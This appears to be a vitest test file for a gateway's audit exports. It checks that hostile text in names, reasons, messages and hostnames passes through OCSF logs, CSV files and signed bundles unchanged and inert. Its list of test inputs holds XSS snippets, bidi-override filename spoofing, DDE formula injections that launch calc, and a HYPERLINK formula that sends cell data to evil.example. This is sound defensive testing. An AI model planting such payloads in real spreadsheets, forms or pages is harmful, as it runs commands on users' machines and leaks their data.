import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { writeBundle } from '#gateway/audit/bundle.ts'
import { csvText, ocsfText } from '#gateway/audit/export-text.ts'
import { openNameBook } from '#gateway/audit/names-of.ts'
import { batchedDecisions } from '#gateway/audit/record-decisions.ts'
import { createSigner } from '#gateway/audit/signer.ts'
import { verifyBundle } from '#gateway/audit/verify-bundle.ts'
import { askRequester } from '#gateway/exceptions/ask-requester.ts'
import { revokeGrant } from '#gateway/exceptions/revoke-grant.ts'
import { aFolder } from '#test/support/a-folder.ts'
import { anExceptionDesk, type Desk, laptop, staff } from '#test/support/an-exception-desk.ts'
import { ocsfFaultsOf } from '#test/support/ocsf-schemas.ts'

/** Text as somebody who means harm writes it, in a form, a message, a name and a hostname. */
const hostile: readonly (readonly [string, string])[] = [
  ['turns the direction', 'abc \u202Egpj.exe\u202C \u2066x\u2069 \u200F'],
  ['is a page', '<script>alert(1)</script><img src=x onerror="alert(1)">&lt;'],
  ['is 2,000 characters long', 'ä"'.repeat(1000)],
  ['is a formula', '=HYPERLINK("https://evil.example/?x="&A1,"click")'],
  ['is a sum', "+1+cmd|' /C calc'!A0"],
  ['begins with a minus', "-2+3+cmd|' /C calc'!A0"],
  ['calls a function', "@SUM(1+9)*cmd|' /C calc'!A0"],
  ['begins with a tab', '\t=1+1, a comma'],
  ['begins with a return', '\r=1+1'],
  ['breaks the line', 'one\r\ntwo,"three"\n=4'],
  ['looks like JSON', '"}\n{"v":1,"type":"log-started"}'],
  ['holds controls', 'a\u0000b\u001B[31mred\u0007\u2028\u2029'],
]

async function aTold(text: string): Promise<Desk> {
  const people = { ada: { name: text }, grace: { name: text }, edsger: { name: text }, barbara: { name: text } }
  const desk = await anExceptionDesk({ people })
  await desk.store.transact((rows) => rows.devices.update({ ...laptop, hostname: text }))
  const { requestId, grantId } = await desk.granted({
    reason: `${text} and that is the whole reason`,
    more: { ticket: text.slice(0, 40) },
  })
  const { request_id: other } = await desk.pending({ resources: ['payments'] })
  await askRequester(desk.ports, { person: staff.grace.id, requestId: other, text }, {})
  await revokeGrant(desk.ports, { person: staff.carol.id, grantId, reason: text.padEnd(10, '.') }, {})
  desk.counter.count({ device: laptop.id, resource: 'wiki', outcome: 'refuse', grants: [] }, desk.now())
  await desk.ports.usage.settle()
  await desk.log.sequencer.flush()
  expect(await desk.state(requestId)).toBe('approved')
  return desk
}

const sourcesOf = ({ store }: Desk) => ({
  terms: (digest: string) => store.read((rows) => rows.exceptions.termsOf(digest)),
  decisions: (eventId: number) => batchedDecisions(store, eventId),
})

async function textOf(parts: AsyncIterable<string>): Promise<string> {
  let text = ''
  for await (const part of parts) text += part
  return text
}

/** A reader of RFC 4180, as a spreadsheet is. */
function readCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]]
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (end === '' && quoted === undefined && plain === '') break
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (end === '\r\n') rows.push([])
  }
  return rows.filter((row) => row.length > 0)
}

describe.each(hostile)('A text that %s', (_, text) => {
  it('goes through log, bundle, OCSF and CSV as what it is, and does nothing there', async () => {
    const desk = await aTold(text)
    const size = desk.log.sequencer.log().size
    const names = await openNameBook(desk.store)
    const wish = { log: 1, logId: 'gate.example.com/audit', from: 0, to: size, version: '0.1.0', names }

    const ocsf = await textOf(ocsfText(desk.store, sourcesOf(desk), { ...wish, withholds: () => false }))
    const lines = ocsf.trimEnd().split('\n')
    const events = lines.map((line) => JSON.parse(line))
    for (const event of events) expect(ocsfFaultsOf(event), JSON.stringify(event)).toEqual([])
    expect(events.some(({ actor }) => actor?.user?.full_name === text)).toBe(true)
    expect(events.some(({ comment }) => comment === text)).toBe(true) // the question to the requester
    expect(events.some(({ unmapped }) => unmapped?.postern?.ticket === text.slice(0, 40))).toBe(true)

    for (const table of ['requests', 'votes', 'grants', 'obligations', 'decisions'] as const) {
      const csv = await textOf(csvText(desk.store, sourcesOf(desk), `${table}.csv`, wish))
      const [header = [], ...rows] = readCsv(csv)
      for (const row of rows) {
        expect(row).toHaveLength(header.length)
        for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
      }
      const column = header.findIndex((name) => name.endsWith('_name'))
      const safe = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text
      if (table !== 'obligations') expect(rows.map((row) => row[column])).toContain(safe)
    }

    const bundle = await aFolder()
    const range = { log: 1, from: 0, to: size, version: '0.1.0', vkeys: [desk.log.vkey] }
    const signer = createSigner(desk.log.key, desk.log.state, false)
    await writeBundle(desk.store, signer, sourcesOf(desk), bundle, range)
    const verified = await verifyBundle(bundle, { keys: desk.log.vkey })
    // This desk's book and passkeys are from before its log: what is asked here is whether text breaks a form.
    expect(verified.breaks.filter(({ check }) => check !== 8)).toEqual([])
    const attached = (await readFile(join(bundle, 'attachments.jsonl'), 'utf8')).trimEnd().split('\n')
    expect(attached.map((line) => JSON.parse(line)).some(({ content }) => content?.text === text)).toBe(true)
    for (const leaf of await desk.log.leaves()) {
      expect(leaf).not.toContain(text)
      expect(Buffer.byteLength(leaf)).toBeLessThan(2048)
    }
  })
})
